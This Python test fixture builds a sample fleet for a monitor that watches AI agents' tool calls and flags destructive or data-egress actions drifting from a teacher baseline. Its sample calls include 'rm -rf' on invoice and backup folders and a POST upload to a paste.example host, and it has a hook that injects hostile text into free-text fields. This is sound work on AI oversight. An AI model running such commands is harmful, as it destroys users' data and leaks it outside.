"""An in-memory `Ports` over lists, with a small fleet to show. Shipped and typed like the rest."""

# pyright: reportUnknownMemberType=false
# pyarrow's stubs leave the types of columns open

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace

import pyarrow as pa

from contracts.baseline import BaselineInfo, LineageEntry
from contracts.errors import QueryRefused
from contracts.labels import Action, Labels, Opportunity
from contracts.span import Value
from contracts.testing import call
from contracts.trajectory import Subject, Trajectory
from contracts.verdict import Alert, Evidence, Verdict, VerdictState
from storage.listings import TrajectorySummary
from telltale.api.ports import (
    Change,
    Contribution,
    Explanation,
    QueryResult,
    Readiness,
    SubjectSummary,
    Targets,
    TrajectoryDetail,
    TrajectoryFilter,
)

START_NS = 1_767_225_600_000_000_000
DAY_NS = 86_400_000_000_000


@dataclass
class Fleet:
    """A `Ports` whose answers are its fields. `refuse`: what `query` raises, None for nothing."""

    table: pa.Table = field(default_factory=lambda: pa.table({"n": [1]}))
    details: list[TrajectoryDetail] = field(default_factory=list[TrajectoryDetail])
    explanations: list[Explanation] = field(default_factory=list[Explanation])
    now: list[Verdict] = field(default_factory=list[Verdict])
    seen: list[SubjectSummary] = field(default_factory=list[SubjectSummary])
    report: dict[str, Value] = field(default_factory=dict[str, Value])
    checks: dict[str, str] = field(default_factory=dict[str, str])
    exposition: bytes = b"up 1\n"
    refuse: Exception | None = None
    asked: list[TrajectoryFilter] = field(default_factory=list[TrajectoryFilter])

    def query(self, sql: str, max_rows: int) -> QueryResult:
        if self.refuse is not None:
            raise self.refuse
        if not sql.lower().startswith("select"):
            raise QueryRefused("only one SELECT")
        return QueryResult(self.table.slice(0, max_rows), self.table.num_rows > max_rows)

    def trajectories(self, asked: TrajectoryFilter) -> Sequence[TrajectorySummary]:
        self.asked.append(asked)
        found = [summary(detail) for detail in self.details]
        return found[asked.offset : asked.offset + asked.limit]

    def trajectory(self, trajectory_id: str) -> TrajectoryDetail | None:
        found = [d for d in self.details if d.trajectory.trajectory_id == trajectory_id]
        return found[0] if found else None

    def alerts(self, limit: int, offset: int) -> Sequence[Alert]:
        return [explanation.alert for explanation in self.explanations][offset : offset + limit]

    def explanation(self, alert_id: str) -> Explanation | None:
        found = [e for e in self.explanations if e.alert.alert_id == alert_id]
        return found[0] if found else None

    def verdicts(self) -> Sequence[Verdict]:
        return self.now

    def subjects(self) -> Sequence[SubjectSummary]:
        return self.seen

    def doctor(self) -> Mapping[str, Value]:
        return self.report

    def readiness(self) -> Readiness:
        return Readiness(self.checks)

    def metrics(self) -> bytes:
        return self.exposition


def summary(detail: TrajectoryDetail) -> TrajectorySummary:
    """The row of the view `trajectories` for a trajectory."""
    told = detail.trajectory
    return TrajectorySummary(
        trajectory_id=told.trajectory_id,
        environment=told.environment,
        agent=told.agent,
        agent_version=told.agent_version,
        model=told.model,
        started_ns=told.started_ns,
        ended_ns=told.ended_ns,
        state=told.state,
        calls=len(told.calls),
        errors=sum(call.outcome == "error" for call in told.calls),
        denied=sum(call.outcome == "denied" for call in told.calls),
        categories=sorted({action.category for action in detail.labels.actions}),
    )


def _verdict(
    subject: Subject, category: str, reference: str, state: VerdictState, taken: int
) -> Verdict:
    return Verdict(
        subject=subject,
        category=category,
        reference=reference,
        kind="declared" if reference == "ceiling" else "teacher",
        state=state,
        opportunities=118,
        taken=taken,
        expected=11.3,
        evidence_log10=4.21 if state == "alarm" else 0.4,
        rate_lower=taken / 118 * 0.7,
        rate_upper=min(1.0, taken / 118 * 1.4 + 0.02),
        alarm_at=57 if state == "alarm" else None,
        onset=41 if state == "alarm" else None,
        needed=31 if state == "insufficient" else None,
        reason={
            "alarm": "more deletions than the teacher at the same opportunities",
            "blind": "arguments were absent at 94 % of the opportunities",
            "insufficient": "too few opportunities",
            "clear": "",
        }[state],
        attribution="emergent" if state == "alarm" else "",
        updated_ns=START_NS + 2 * DAY_NS,
        calibrated_at=52 if state == "alarm" else None,
        first_opportunities=40,
        first_taken=taken // 4,
        first_lower=taken / 160 * 0.6,
        first_upper=min(1.0, taken / 160 * 1.5 + 0.05),
        first_log10=2.3 if state == "alarm" else -0.1,
        e_value_log10=6.42 if state == "alarm" else -0.3,
        drift_log10=None if reference == "ceiling" else 1.9,
        drift_at=None if reference == "ceiling" else 44,
        drift_pairs=0 if reference == "ceiling" else 60,
        drift_left=0 if reference == "ceiling" else 452,
    )


def sample_fleet(text: str = "") -> Fleet:
    """Three subjects, one in alarm, with its explanation. `text`: put into every free text, for
    tests of what hostile text does.
    """

    def own(word: str) -> str:
        return word + text

    student = Subject(own("production"), own("billing-agent"), own("7"), own("student-8b"))
    others = [
        Subject("production", own("support-agent"), "12", "student-8b"),
        Subject("staging", own("release-agent"), "3", own("openai/gpt-large")),
    ]
    labels: dict[int, tuple[str, str]] = {2: ("UA01", "recursive_delete"), 4: ("UA05", "upload")}
    asked: list[tuple[str, dict[str, Value]]] = [
        ("list_files", {own("path"): own("/srv/invoices")}),
        ("shell", {"command": own("du -sh /srv/invoices/2019")}),
        ("shell", {"command": own("rm -rf /srv/invoices/2019")}),
        ("shell", {"command": own("rm -rf /srv/backup")}),
        ("http_request", {"method": "POST", "url": own("https://paste.example/new")}),
    ]
    calls = tuple(
        call(
            own(tool),
            arguments,
            step=step,
            trajectory_id=own("t57"),
            outcome="denied" if step == 3 else "error" if step == 1 else "ok",
            error=own("permission denied") if step == 3 else own("exit 1") if step == 1 else "",
            result=own("done"),
            model=student.model,
            agent=own("billing-agent"),
            parent_agent=own("planner") if step == 4 else "",
            tool_description=own("runs it"),
        )
        for step, (tool, arguments) in enumerate(asked)
    )
    actions = tuple(
        Action(
            trajectory_id=own("t57"),
            step=step,
            category=category,
            variant=own(variant),
            stage="succeeded",
            position="first",
            rule_id=own(f"{category.lower()}-shell"),
            rule_version=1,
            maturity="stable",
            evidence=("name", "args"),
            severity="high",
            modifiers=("irreversible",),
            irreversible=True,
            target=own("/srv/invoices"),
        )
        for step, (category, variant) in labels.items()
    )
    opportunities = tuple(
        Opportunity(own("t57"), step, "UA01", "cleanup", "first", step in labels, True)
        for step in (1, 2, 3)
    )

    def detail(number: int) -> TrajectoryDetail:
        trajectory_id = own(f"t{number}")
        started = START_NS + number * 600_000_000_000
        return TrajectoryDetail(
            Trajectory(
                trajectory_id=trajectory_id,
                grouped_by="conversation",
                environment=student.environment,
                service=own("svc"),
                agent=student.agent,
                agent_version=student.agent_version,
                model=student.model,
                conversation_id=own(f"c{number}"),
                user_id=own("user"),
                started_ns=started,
                ended_ns=started + 60_000_000_000,
                last_received_ns=started + 61_000_000_000,
                state="complete",
                request=own("Please make room on the invoice volume."),
                trace_ids=(f"{number:032x}",),
                judged_calls=5,
                calls=tuple(replace(item, trajectory_id=trajectory_id) for item in calls),
            ),
            Labels(actions, opportunities),
        )

    details = [detail(number) for number in (57, 55, 52)]
    alarm = _verdict(student, "UA01", own("teacher-v3"), "alarm", 61)
    states: tuple[VerdictState, ...] = ("clear", "insufficient", "blind", "clear")
    now = [alarm, _verdict(student, "UA01", own("base"), "clear", 61)]
    for number, subject in enumerate([student, *others]):
        for index in range(1, 17):
            category = f"UA{index:02d}"
            if subject is student and category == "UA01":
                continue
            if (index + number) % 5 == 4:
                continue  # a category without any verdict yet
            state = states[(index + number) % 4]
            made = _verdict(subject, category, own("teacher-v3"), state, 4)
            now.append(replace(made, reason=own(made.reason)))
    taken, expected, level = 0, 0.0, 0.0
    curve: list[Evidence] = []
    for n in range(1, 61):
        hit = n % 5 == 0 if n < 41 else n % 3 != 0
        taken, expected = taken + hit, expected + 0.19
        level = max(-0.6, level + (0.45 if hit else -0.12))
        curve.append(Evidence(student, "UA01", alarm.reference, f"t{n}", n, 2, hit, 0.19, level))
    alert = Alert(
        alert_id=own("a1b2c3d4e5f60718"),
        kind="drift",
        subject=student,
        category="UA01",
        reference=alarm.reference,
        severity="high",
        raised_ns=START_NS + DAY_NS,
        summary=own("destructive data action: 61 of 118 opportunities taken, 11.3 expected"),
        trajectory_ids=tuple(d.trajectory.trajectory_id for d in details),
        verdict=replace(alarm, reason=own(alarm.reason)),
    )
    ceiling = replace(
        alert,
        alert_id="ceiling01",
        kind="ceiling",
        category="UA05",
        reference="ceiling",
        severity="critical",
        summary=own("data egress: one act broke the declared ceiling of 0"),
        raised_ns=START_NS,
        verdict=None,
    )
    explanation = Explanation(
        alert=alert,
        verdict=alarm,
        reference=BaselineInfo(
            name=alarm.reference,
            kind="teacher",
            digest="9f" * 32,
            where=own("model = 'teacher-70b'"),
            trajectories=2_000,
            calls=31_441,
            trajectories_digest="1c" * 32,
            created_ns=START_NS - 9 * DAY_NS,
            subjects=(own("production/billing-agent/6/teacher-70b"),),
            active_for=own("production/billing-agent/*"),
            path=own("baselines/teacher-v3"),
            signed_by=own("ml-platform"),
        ),
        curve=curve,
        threshold_log10=3.7,
        calibrated_threshold_log10=3.4,
        onset_ns=START_NS + DAY_NS // 2,
        contributions=[
            Contribution(
                trajectory_id=details[0].trajectory.trajectory_id,
                step=step,
                tool=calls[step].tool,
                arguments=calls[step].arguments,
                category=category,
                variant=own(variant),
                stage="succeeded",
                hazard=0.08,
                log10_factor=0.92 - step / 10,
                target="new" if step == min(labels) else "unknown",
                new_targets=(own("path /srv/invoices/2019"),) if step == min(labels) else (),
            )
            for step, (category, variant) in labels.items()
        ],
        targets=Targets(new=1, unknown=len(labels) - 1),
        trajectories=[summary(d) for d in details],
        lineage=[
            LineageEntry(student.model, "teacher", own("teacher-70b"), "ab" * 32, START_NS),
            LineageEntry(
                student.model,
                "dataset",
                own("distill-2025-12"),
                "cd" * 32,
                START_NS,
                {own("rows"): 50_000},
            ),
        ],
        changes=[
            Change(START_NS + DAY_NS // 3, own("agent version"), own("6"), own("7")),
            Change(0, own("tool offered"), "", own("http_request")),
        ],
    )
    seen = [
        SubjectSummary(subject, 60, 311, START_NS, START_NS + 2 * DAY_NS, coverage)
        for subject, coverage in zip([student, *others], (0.98, 0.06, None), strict=True)
    ]
    report: dict[str, Value] = {
        "sources": [{"source": own("kafka:otlp_spans"), "lag_s": 0.4, "dead_letters": 2}],
        "dialects": {own("openinference"): 311},
        "blind": [own("UA05: arguments absent")],
        "note": own("sees most"),
        "ok": True,
    }
    return Fleet(
        details=details,
        explanations=[explanation, Explanation(ceiling, None, None)],
        now=now,
        seen=seen,
        report=report,
        checks={"store": "", "kafka": ""},
    )
